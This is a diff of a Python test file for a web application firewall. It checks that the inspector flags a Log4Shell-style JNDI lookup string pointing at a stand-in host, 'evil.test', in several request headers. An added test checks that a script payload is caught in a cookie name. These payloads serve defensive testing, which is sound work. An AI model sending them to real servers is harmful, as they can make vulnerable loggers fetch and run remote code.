@@ -507,3 +507,7 @@ def test_packed_content_is_read_to_its_last_member_and_refused_where_it_cannot_b
 @pytest.mark.parametrize("name", [b"accept", b"authorization", b"date", b"origin"])
 def test_what_loggers_look_up_is_found_in_fields_that_nobody_else_reads(name: bytes) -> None:
     assert Inspector(Waf()).head(head_of(b"/", (name, b"${jndi:ldap://evil.test/a}"))) is not None
+
+
+def test_names_of_cookies_are_read() -> None:
+    assert Inspector(Waf()).head(head_of(b"/", (b"cookie", b"a=1; " + SCRIPT + b"=1"))) is not None
